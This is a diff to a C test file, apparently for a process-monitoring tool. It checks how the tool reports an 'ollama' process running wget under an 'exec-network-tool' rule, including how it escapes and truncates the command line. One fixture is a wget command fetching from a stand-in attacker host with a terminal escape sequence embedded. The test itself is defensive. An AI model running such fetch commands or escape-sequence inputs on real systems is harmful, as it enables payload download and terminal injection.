@@ -368,7 +368,15 @@ static void test_files(void)
 		ev.pid = 9;
 		ev.filename = "/usr/bin/wget";
 		CHECK_STR(rt_ids(pack, &ev), "exec-network-tool");
-		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget");
+		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget, command line: ?");
+		ev.argv = "wget -q -O- https://evil.example/\x1b[2J";
+		ev.argv_state = EVENT_ARGV_FULL;
+		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget, command line: wget "
+					     "-q -O- https://evil.example/\\x1b[2J");
+		ev.argv_state = EVENT_ARGV_CUT;
+		CHECK_HAS(rt_msg(pack, &ev), "evil.example/\\x1b[2J [cut]", true);
+		ev.argv = NULL;
+		ev.argv_state = EVENT_ARGV_UNKNOWN;
 		ev.filename = "/usr/local/lib/ollama/llama-server";
 		CHECK_STR(rt_ids(pack, &ev), "");
 	}
